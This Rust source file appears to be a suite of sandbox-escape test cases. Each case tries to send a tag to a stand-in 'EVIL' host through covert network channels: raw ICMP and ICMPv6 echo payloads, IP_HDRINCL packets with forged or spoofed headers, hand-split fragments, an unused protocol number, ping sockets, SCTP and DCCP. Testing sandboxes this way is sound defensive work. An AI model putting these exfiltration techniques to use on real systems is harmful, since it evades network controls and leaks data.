//! Packets that a program makes itself, and protocols beside TCP and UDP.

use nix::errno::Errno;

use crate::escape::case::{Case, Refused, Targets, Unrecorded, by};
use crate::escape::packet::{self, Fragment};
use crate::escape::sys;
use crate::harness::network::{EVIL_V4, EVIL_V6, GOOD_V4, JOB_V4, JOB_V6};

type Result = std::result::Result<(), Refused>;

/// Without the capability the kernel refuses before any hook is asked.
const NO_RAW: &[Unrecorded] = &[by("capabilities", "socket", Errno::EPERM)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "raw-icmp",
        &["G04"],
        "Raw ICMP socket: data in an echo request.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)?;
            let request = packet::echo_request(8, targets.tag().as_bytes());
            sys::sendto(&socket, &request, 0, &sys::address(targets.at(EVIL_V4))).map(drop)
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-icmp-v6",
        &["G04"],
        "Raw ICMPv6 socket: data in an echo request.",
        |targets| {
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)?;
            let request = packet::echo_request(128, targets.tag().as_bytes());
            raw_v6(&socket, &request)
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-hdrincl",
        &["G04"],
        "IP_HDRINCL: `sendto` names the allowed host, the packet's own header another.",
        |targets| {
            let data = packet::udp(targets.port(), 8080, targets.tag().as_bytes());
            hdrincl(&[packet::ipv4(
                JOB_V4,
                EVIL_V4,
                17,
                Fragment::default(),
                &data,
            )])
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-hdrincl-spoofed",
        &["G04"],
        "IP_HDRINCL with the allowed host as the source.",
        |targets| {
            let data = packet::udp(targets.port(), 8080, targets.tag().as_bytes());
            hdrincl(&[packet::ipv4(
                GOOD_V4,
                EVIL_V4,
                17,
                Fragment::default(),
                &data,
            )])
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-fragments",
        &["G07", "P10"],
        "Fragments made by hand: ports only in the first, data in the second.",
        |targets| {
            let first = packet::udp(targets.port(), 8080, b"");
            let tag = targets.tag();
            let (one, two) = (
                Fragment {
                    offset: 0,
                    more: true,
                },
                Fragment {
                    offset: 1,
                    more: false,
                },
            );
            hdrincl(&[
                packet::ipv4(JOB_V4, EVIL_V4, 17, one, &first),
                packet::ipv4(JOB_V4, EVIL_V4, 17, two, tag.as_bytes()),
            ])
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-hdrincl-v6",
        &["G04"],
        "IPv6 raw socket that brings its own header.",
        |targets| {
            let socket = sys::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
            let data = packet::udp(targets.port(), 8080, targets.tag().as_bytes());
            raw_v6(&socket, &packet::ipv6(JOB_V6, EVIL_V6, 17, &data))
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "raw-unknown-protocol",
        &["G09"],
        "Raw socket of an IP protocol nobody uses (253).",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_RAW, 253)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    )
    .stopped_by(NO_RAW),
    Case::new(
        "ping-sendto",
        &["G04"],
        "Ping socket, `sendto`: data in an echo request, no privilege needed.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
            let request = packet::echo_request(8, targets.tag().as_bytes());
            sys::sendto(&socket, &request, 0, &sys::address(targets.at(EVIL_V4))).map(drop)
        },
    ),
    Case::new(
        "ping-connect",
        &["G04"],
        "Ping socket, `connect` and `send`.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            let request = packet::echo_request(8, targets.tag().as_bytes());
            sys::send(&socket, &request, 0).map(drop)
        },
    ),
    Case::new("ping-v6", &["G04"], "Ping socket, IPv6.", |targets| {
        let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, libc::IPPROTO_ICMPV6)?;
        let request = packet::echo_request(128, targets.tag().as_bytes());
        sys::sendto(&socket, &request, 0, &sys::address(targets.at(EVIL_V6))).map(drop)
    }),
    Case::new("sctp-v4", &["G09"], "SCTP, one to one.", |targets| {
        beside(
            libc::AF_INET,
            libc::SOCK_STREAM,
            libc::IPPROTO_SCTP,
            targets,
        )
    }),
    Case::new("sctp-v6", &["G09"], "SCTP, IPv6.", |targets| {
        let socket = sys::socket(libc::AF_INET6, libc::SOCK_STREAM, libc::IPPROTO_SCTP)?;
        sys::connect(&socket, &sys::address(targets.at(EVIL_V6)))
    }),
    Case::new(
        "sctp-sendto",
        &["G09"],
        "SCTP, one to many: `sendto` associates.",
        |targets| {
            let (kind, protocol) = (libc::SOCK_SEQPACKET, libc::IPPROTO_SCTP);
            let socket = sys::socket(libc::AF_INET, kind, protocol)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new("dccp-v4", &["G09"], "DCCP.", |targets| {
        beside(libc::AF_INET, libc::SOCK_DCCP, libc::IPPROTO_DCCP, targets)
    }),
];

fn beside(family: i32, kind: i32, protocol: i32, targets: &Targets) -> Result {
    let socket = sys::socket(family, kind, protocol)?;
    sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))
}

/// Raw IPv6 sockets take the port for a protocol number, so it must be zero.
fn raw_v6(socket: &std::os::fd::OwnedFd, data: &[u8]) -> Result {
    let to = sys::address(crate::harness::network::at(EVIL_V6, 0));
    sys::sendto(socket, data, 0, &to).map(drop)
}

fn hdrincl(packets: &[Vec<u8>]) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    for packet in packets {
        sys::sendto(&socket, packet, 0, &sys::address(super::good_v4()))?;
    }
    Ok(())
}
